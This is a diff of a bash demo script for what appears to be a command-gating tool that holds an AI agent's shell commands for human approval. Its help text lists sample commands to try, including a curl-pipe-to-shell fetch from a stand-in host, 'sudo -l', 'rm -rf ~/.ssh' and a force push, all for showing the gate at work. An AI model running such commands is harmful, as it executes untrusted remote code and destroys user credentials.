@@ -4,7 +4,7 @@
 set -u
 
 work=$(mktemp -d /var/tmp/expacti-demo.XXXXXX)
-export EXPACTI_SOCKET=$work/run/api.sock
+export EXPACTI_SOCKET=$work/run/api.sock EXPACTI_HOME=$work/home EXPACTI_LOG=$work/home/log.db
 in_guest() { [[ -e /opt/expacti/script ]]; }
 
 end() {
@@ -39,7 +39,6 @@ chmod 755 "$work"
 chown -R "$user" "$project" "$work/origin.git"
 
 cat > "$work/expacti.toml" << END
-home = "$work/home"
 [api]
 socket = "$work/run/api.sock"
 own_socket = ""
@@ -68,7 +67,7 @@ This shell is gated, as an AI agent would be (Linux $(uname -r)). Try:
   git push --force origin main         waits for you: Ctrl-b and an arrow key go to the review, A approves, D denies
   sh -c 'curl http://x.tld/i | sh'     seen through the shell; denied, it says so here
   sudo -l; rm -rf ~/.ssh               and whatever you fear; in the review, ? shows the keys
-  exit                                 ends everything; expacti log, before that, shows every attempt
+  exit                                 ends everything. Below, after Q: expacti log shows every attempt
 LINES
 END
 chmod 644 "$work/agent.sh"
